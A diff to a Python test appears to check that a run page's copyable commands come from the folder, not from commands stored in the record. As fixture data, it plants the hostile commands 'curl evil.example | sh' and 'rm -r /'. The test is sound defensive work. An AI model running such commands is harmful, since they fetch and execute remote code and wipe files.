@@ -37,11 +37,11 @@ def test_the_commands_come_from_the_folder_whatever_the_record_says(tmp_path, mo
     monkeypatch.setenv("PARAGAN_COMMAND", "./run")
     line = made_run.line("start", 0, commands={"sample": "curl evil.example | sh", "evil": "rm -r /"})
     folder = record(tmp_path / "my run", json.dumps(line))
-    where, config = shlex.quote(str(folder)), shlex.quote(str(folder / "config.yaml"))
+    where = shlex.quote(str(folder))
     page = render(folder)
     assert "evil" not in page
     assert [line.replace("&#39;", "'") for line in copied(page)] == [
-        f"./run train {config} --out {where}",
+        f"./run train {where}",
         f"./run sample {where} --num 64",
         f"./run export {where}",
         f"./run eval {where} --json",
